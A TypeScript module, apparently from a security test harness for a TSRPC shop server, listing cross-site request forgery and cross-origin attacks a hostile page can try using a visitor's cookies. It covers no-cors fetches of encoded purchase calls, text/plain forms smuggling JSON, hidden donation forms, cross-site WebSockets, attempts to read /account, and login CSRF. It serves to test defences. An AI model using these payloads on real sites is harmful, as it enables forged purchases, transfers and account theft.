// What a page can try in the name of its visitor. Each attack returns when the server has answered: what the page could read of it,
// or why nothing.

import { HttpClient, WsClient } from 'tsrpc-browser';
import { serviceProto, type ServiceType } from 'access/serviceProto';
import { go, logger } from './customer';

/** A server of the shop. */
export interface Target {
    http: string;
    ws: string;
}

const ITEM = 'a gift for the attacker';
const BUY = JSON.stringify({ item: ITEM });

/** The bytes that a real client sends for a call, without sending them. */
function encoded(call: (client: HttpClient<ServiceType>) => unknown) {
    return new Promise<Uint8Array<ArrayBuffer>>((resolve) => {
        const client = new HttpClient(serviceProto, { logger });
        client.flows.preSendDataFlow.push(({ data }) => {
            resolve(new Uint8Array(data as Uint8Array));
            return undefined;
        });
        call(client);
    });
}

const buy = () => encoded((client) => client.callApi('Buy', { item: ITEM }));

async function read(answer: Promise<Response>): Promise<string> {
    try {
        const response = await answer;
        return response.type === 'opaque' ? 'opaque' : await response.text();
    } catch {
        return 'blocked';
    }
}

/** A request that needs no preflight, with the visitor's cookies. */
function send(url: string, body?: BodyInit, headers: Record<string, string> = {}, method = 'POST') {
    return read(fetch(url, { method, mode: 'no-cors', credentials: 'include', headers, body: body ?? null }));
}

/** Another frame shows the answer to a form. */
function submit(action: string, enctype: string, fields: Record<string, string>, target: string) {
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action, enctype, target });
    for (const [name, value] of Object.entries(fields)) {
        const input = document.createElement('input');
        Object.assign(input, { type: 'hidden', name, value });
        form.append(input);
    }
    document.body.append(form);
    form.submit();
}

function submitIntoFrame(action: string, enctype: string, fields: Record<string, string>) {
    return new Promise<string>((resolve) => {
        const frame = document.createElement('iframe');
        frame.name = `frame${document.querySelectorAll('iframe').length}`;
        document.body.append(frame);
        frame.onload = () => resolve('shown in a frame');
        submit(action, enctype, fields, frame.name);
    });
}

/** The form whose body, in `text/plain`, is the JSON of a call: `{"item":"…","token":"="}`. */
const JSON_FORM = { [`{"item":"${ITEM}","token":"`]: '"}' };
const FORM = { amount: '1000' };

export const attacks = {
    json: ({ http }: Target) =>
        read(
            fetch(`${http}/Buy`, {
                method: 'POST',
                credentials: 'include',
                headers: { 'Content-Type': 'application/json' },
                body: BUY,
            }),
        ),
    untypedBuffer: async ({ http }: Target) => send(http, await buy()),
    untypedBlob: async ({ http }: Target) => send(http, new Blob([await buy()])),
    keptAlive: async ({ http }: Target) =>
        read(fetch(http, { method: 'POST', mode: 'no-cors', credentials: 'include', keepalive: true, body: await buy() })),
    withoutReferrer: async ({ http }: Target) =>
        read(
            fetch(http, {
                method: 'POST',
                mode: 'no-cors',
                credentials: 'include',
                referrerPolicy: 'no-referrer',
                body: await buy(),
            }),
        ),
    blobOfOctets: async ({ http }: Target) => send(http, new Blob([await buy()], { type: 'application/octet-stream' })),
    blobOfJson: ({ http }: Target) => send(`${http}/Buy`, new Blob([BUY], { type: 'application/json' })),
    jsonAsText: ({ http }: Target) => send(`${http}/Buy`, BUY),
    jsonWithParameter: ({ http }: Target) =>
        send(`${http}/Buy`, BUY, { 'Content-Type': 'text/plain; charset=application/json' }),
    jsonInAList: ({ http }: Target) => send(`${http}/Buy`, BUY, { 'Content-Type': 'text/plain, application/json' }),
    jsonByFormToRoute: ({ http }: Target) => submitIntoFrame(`${http}/donate`, 'text/plain', JSON_FORM),
    jsonByForm: ({ http }: Target) => submitIntoFrame(`${http}/Buy`, 'text/plain', JSON_FORM),
    form: ({ http }: Target) => submitIntoFrame(`${http}/donate`, 'application/x-www-form-urlencoded', FORM),
    formOfText: ({ http }: Target) => submitIntoFrame(`${http}/donate`, 'text/plain', FORM),
    formOfParts: ({ http }: Target) => submitIntoFrame(`${http}/donate`, 'multipart/form-data', FORM),
    formAtTheTop: async ({ http }: Target) =>
        submit(`${http}/donate`, 'application/x-www-form-urlencoded', FORM, '_top'),
    webSocket: ({ ws }: Target) => go({ HttpClient, WsClient }, { server: ws, json: false }),
    webSocketOfText: ({ ws }: Target) => go({ HttpClient, WsClient }, { server: ws, json: true }),
    webSocketMessage: async ({ ws }: Target) => {
        const client = new WsClient(serviceProto, { server: ws, logger });
        if (!(await client.connect()).isSucc) {
            return 'not connected';
        }
        const sent = await client.sendMsg('Wish', { item: ITEM });
        await client.disconnect();
        return sent.isSucc ? 'sent' : sent.err.message;
    },
    secret: ({ http }: Target) => read(fetch(`${http}/account`, { credentials: 'include' })),
    secretByScript: ({ http }: Target) =>
        new Promise<string>((resolve) => {
            const script = document.createElement('script');
            script.src = `${http}/account`;
            script.onload = script.onerror = () => resolve('not a script');
            document.body.append(script);
        }),
    loginAsAttacker: async ({ http }: Target) =>
        send(http, await encoded((client) => client.callApi('user/Login', { username: 'eve', password: 'eve' }))),
};
